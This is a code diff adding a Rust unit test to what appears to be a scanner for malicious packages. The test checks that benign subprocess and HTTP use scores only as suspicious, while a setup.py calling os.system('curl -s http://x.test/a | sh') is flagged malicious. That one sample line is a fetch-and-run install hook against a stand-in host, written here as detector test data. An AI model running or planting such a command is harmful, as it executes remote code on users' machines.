@@ -735,6 +735,33 @@ mod tests {
     }
 
     #[test]
+    fn weak_signals_alone_are_never_malicious() {
+        let cfg = AnalyzerConfig {
+            threshold_malicious: 2.0,
+            threshold_suspicious: 1.0,
+            ..AnalyzerConfig::default()
+        };
+        let a = Analyzer::new(cfg).unwrap();
+        let weak = a.analyze(
+            &[pf(
+                "p-1/p/tool.py",
+                "import subprocess, requests\ndef f():\n    subprocess.call(['git', 'status'])\n    return requests.get('https://example.test')\n",
+            )],
+            &[],
+        );
+        assert!(weak.score >= 1.0, "{}", weak.score);
+        assert_eq!(weak.verdict, Verdict::Suspicious);
+        let strong = a.analyze(
+            &[pf(
+                "p-1/setup.py",
+                "import os\nos.system('curl -s http://x.test/a | sh')\n",
+            )],
+            &[],
+        );
+        assert_eq!(strong.verdict, Verdict::Malicious);
+    }
+
+    #[test]
     fn empty_package_is_benign() {
         let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
         let r = a.analyze(&[], &[]);
